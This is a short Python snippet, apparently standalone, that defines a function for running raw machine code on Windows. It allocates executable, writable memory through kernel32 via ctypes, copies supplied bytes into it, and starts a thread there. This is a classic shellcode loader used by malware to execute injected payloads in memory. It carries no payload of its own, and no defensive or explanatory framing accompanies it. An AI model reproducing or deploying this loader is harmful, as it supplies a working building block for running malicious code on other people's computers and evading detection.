import ctypes


def run(code):
    kernel = ctypes.windll.kernel32
    place = kernel.VirtualAlloc(0, len(code), 0x3000, 0x40)
    kernel.RtlMoveMemory(place, code, len(code))
    kernel.CreateThread(0, 0, place, 0, 0, 0)
